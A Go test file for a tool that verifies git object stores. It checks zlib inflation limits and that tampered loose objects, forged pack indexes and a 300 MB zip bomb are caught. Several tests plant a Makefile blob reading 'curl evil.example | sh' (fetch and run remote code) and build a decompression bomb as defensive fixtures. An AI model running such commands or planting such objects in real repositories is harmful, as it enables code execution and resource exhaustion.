package cleanup

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// inflate reads what compress/zlib writes at every level, and git's own objects.
func TestInflate(t *testing.T) {
	rnd := rand.New(rand.NewSource(1))
	var data []byte
	for len(data) < 300000 {
		if rnd.Intn(3) == 0 {
			data = append(data, byte(rnd.Intn(256)))
		} else {
			data = append(data, "the quick brown fox "[rnd.Intn(20)])
		}
	}
	for _, size := range []int{0, 1, 100, 40000, len(data)} {
		for _, level := range []int{zlib.NoCompression, zlib.BestSpeed, zlib.DefaultCompression, zlib.BestCompression, zlib.HuffmanOnly} {
			var z bytes.Buffer
			w, _ := zlib.NewWriterLevel(&z, level)
			w.Write(data[:size])
			w.Close()
			var out bytes.Buffer
			if err := inflate(bytes.NewReader(z.Bytes()), &out, int64(size)); err != nil || !bytes.Equal(out.Bytes(), data[:size]) {
				t.Errorf("size %d level %d: %v, %d bytes out", size, level, err, out.Len())
			}
			if size > 0 {
				if err := inflate(bytes.NewReader(z.Bytes()), &out, int64(size-1)); err != errInflateLimit {
					t.Errorf("size %d level %d: past the limit: %v", size, level, err)
				}
			}
		}
	}
}

// VerifyObjects moves aside a loose object rewritten in place (and a planted one under
// another's name), keeps new good ones and the untouched, and reports a new pack.
func TestVerifyObjects(t *testing.T) {
	dir := t.TempDir()
	gitIn(t, dir, "init", "-q")
	big := strings.Repeat("some text that compresses well\n", 5000)
	os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:\n\techo hi\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "big.txt"), []byte(big), 0o644)
	gitIn(t, dir, "add", ".")
	gitIn(t, dir, "commit", "-qm", "x")
	objs := filepath.Join(dir, ".git", "objects")
	packs, err := PackStamps(objs)
	if err != nil {
		t.Fatal(err)
	}
	// every object git wrote checks out
	if r, f := verifyObjects(objs, 20, 0, packs); len(r)+len(f) != 0 {
		t.Fatalf("git's own objects: removed %q, failed %q", r, f)
	}
	since := time.Now().Add(-time.Second).UnixNano()
	time.Sleep(1100 * time.Millisecond) // the commit's objects are older than since
	oid := strings.TrimSpace(gitIn(t, dir, "rev-parse", "HEAD:Makefile"))
	p := filepath.Join(objs, oid[:2], oid[2:])
	evil := "all:\n\tcurl evil.example | sh\n"
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	fmt.Fprintf(w, "blob %d\x00%s", len(evil), evil)
	w.Close()
	os.Chmod(p, 0o644)
	if err := os.WriteFile(p, z.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "new.txt"), []byte("new\n"), 0o644)
	newOid := strings.TrimSpace(gitIn(t, dir, "hash-object", "-w", "new.txt"))
	os.MkdirAll(filepath.Join(objs, "pack"), 0o755)
	os.WriteFile(filepath.Join(objs, "pack", "pack-x.idx"), []byte("x"), 0o444)
	r, f := Run([]Entry{{Kind: VerifyObjects, Path: objs, HashLen: 20, Since: since, Was: packs}})
	if len(r) != 1 || !strings.Contains(r[0], oid[2:]+": object moved aside") {
		t.Errorf("removed %q", r)
	}
	if len(f) != 1 || !strings.Contains(f[0], "pack-x.idx") {
		t.Errorf("failed %q", f)
	}
	if _, err := os.Stat(p); err == nil {
		t.Errorf("the tampered object is still there")
	}
	if _, err := os.Stat(filepath.Join(objs, newOid[:2], newOid[2:])); err != nil {
		t.Errorf("the new good object was removed: %v", err)
	}
	if got := gitIn(t, dir, "cat-file", "-p", "HEAD:big.txt"); got != big {
		t.Errorf("big.txt's blob lost")
	}
}

// A tampered object whose move-aside name the command made first (a directory there,
// every name taken) still leaves git's name: moved aside to a fresh name, never into
// what is there, or removed when every name is taken (attack review 31 F6).
func TestVerifyObjectsAsideTaken(t *testing.T) {
	for _, taken := range []int{1, maxAsideTries} {
		dir := t.TempDir()
		gitIn(t, dir, "init", "-q")
		os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:\n\techo hi\n"), 0o644)
		gitIn(t, dir, "add", ".")
		gitIn(t, dir, "commit", "-qm", "x")
		objs := filepath.Join(dir, ".git", "objects")
		oid := strings.TrimSpace(gitIn(t, dir, "rev-parse", "HEAD:Makefile"))
		p := filepath.Join(objs, oid[:2], oid[2:])
		var z bytes.Buffer
		w := zlib.NewWriter(&z)
		evil := "all:\n\tcurl evil.example | sh\n"
		fmt.Fprintf(w, "blob %d\x00%s", len(evil), evil)
		w.Close()
		os.Chmod(p, 0o644)
		if err := os.WriteFile(p, z.Bytes(), 0o444); err != nil {
			t.Fatal(err)
		}
		for i := 0; i < taken; i++ {
			n := p + asideSuffix
			if i > 0 {
				n = fmt.Sprintf("%s-%d", n, i)
			}
			if err := os.MkdirAll(filepath.Join(n, "x"), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		r, f := Run([]Entry{{Kind: VerifyObjects, Path: objs, HashLen: 20, Since: 0}})
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%d names taken: the tampered object stays where git reads it: removed %q, failed %q", taken, r, f)
		}
		if _, err := os.Stat(filepath.Join(p+asideSuffix, "x")); err != nil {
			t.Errorf("%d names taken: what the command made at the aside name was touched: %v", taken, err)
		}
		if len(r) != 1 || len(f) != 0 {
			t.Errorf("%d names taken: removed %q, failed %q", taken, r, f)
		}
	}
}

// New packs are verified against their indexes: git's own (git repack during the run)
// pass, and stay; a forged index that names an object by another's id, renamed tmp_*
// (git loads any <x>.idx with its <x>.pack), is moved aside with its pack, not passed
// over as git's temporary file (attack review 31 F4's packforge2).
func TestVerifyObjectsTmpPack(t *testing.T) {
	dir := t.TempDir()
	gitIn(t, dir, "init", "-q")
	os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:\n\techo hi\n"), 0o644)
	gitIn(t, dir, "add", ".")
	gitIn(t, dir, "commit", "-qm", "x")
	gitIn(t, dir, "repack", "-adq")
	objs := filepath.Join(dir, ".git", "objects")
	r, f := Run([]Entry{{Kind: VerifyObjects, Path: objs, HashLen: 20, Since: 0}})
	if len(r)+len(f) != 0 {
		t.Errorf("git's own new pack: removed %q, failed %q", r, f)
	}
	idxs, _ := filepath.Glob(filepath.Join(objs, "pack", "pack-*.idx"))
	if len(idxs) != 1 {
		t.Fatalf("packs: %v", idxs)
	}
	b, _ := os.ReadFile(idxs[0])
	b[8+1024+5] ^= 1
	forged := filepath.Join(objs, "pack", "tmp_pack_y")
	os.WriteFile(forged+".idx", b, 0o444)
	pb, _ := os.ReadFile(strings.TrimSuffix(idxs[0], ".idx") + ".pack")
	os.WriteFile(forged+".pack", pb, 0o444)
	r, f = Run([]Entry{{Kind: VerifyObjects, Path: objs, HashLen: 20, Since: 0}})
	for _, n := range []string{forged + ".idx", forged + ".pack"} {
		if _, err := os.Lstat(n); err == nil {
			t.Errorf("%s stays where git loads it: removed %q, failed %q", n, r, f)
		}
	}
	if _, err := os.Stat(idxs[0]); err != nil || len(r) != 2 {
		t.Errorf("git's pack: %v; removed %q, failed %q", err, r, f)
	}
}

// A zip bomb (300 KB on disk, 300 MB inflated) first in fan-out order no longer spends
// the budget that the tampered object after it needed: its header's size is charged
// before it is inflated (attack review 31 F1: before, the tampered object stayed,
// warned about). The bomb, past the bound, is reported unchecked and stays: only a
// proven mismatch is moved aside (attack review 32 F5: a user's own huge blob).
func TestVerifyObjectsBomb(t *testing.T) {
	dir := t.TempDir()
	gitIn(t, dir, "init", "-q")
	os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:\n\techo hi\n"), 0o644)
	gitIn(t, dir, "add", ".")
	gitIn(t, dir, "commit", "-qm", "x")
	objs := filepath.Join(dir, ".git", "objects")
	oid := strings.TrimSpace(gitIn(t, dir, "rev-parse", "HEAD:Makefile"))
	p := filepath.Join(objs, oid[:2], oid[2:])
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	evil := "all:\n\tcurl evil.example | sh\n"
	fmt.Fprintf(w, "blob %d\x00%s", len(evil), evil)
	w.Close()
	os.Chmod(p, 0o644)
	if err := os.WriteFile(p, z.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
	const size = 300 << 20
	z.Reset()
	w, _ = zlib.NewWriterLevel(&z, zlib.BestCompression)
	fmt.Fprintf(w, "blob %d\x00", size)
	zeros := make([]byte, 1<<20)
	for i := 0; i < size>>20; i++ {
		w.Write(zeros)
	}
	w.Close()
	bomb := filepath.Join(objs, "00", strings.Repeat("0", 38))
	os.MkdirAll(filepath.Dir(bomb), 0o755)
	if err := os.WriteFile(bomb, z.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	r, f := Run([]Entry{{Kind: VerifyObjects, Path: objs, HashLen: 20, Since: 0}})
	if _, err := os.Lstat(p); err == nil {
		t.Errorf("the tampered object after the bomb stays: removed %q, failed %q", r, f)
	}
	if _, err := os.Lstat(bomb); err != nil || !strings.Contains(strings.Join(f, "\n"), bomb+": not checked") {
		t.Errorf("the bomb, past the bound, is not left and reported unchecked (%v): removed %q, failed %q", err, r, f)
	}
	t.Logf("%d bytes on disk; checked in %v", z.Len(), time.Since(start))
}
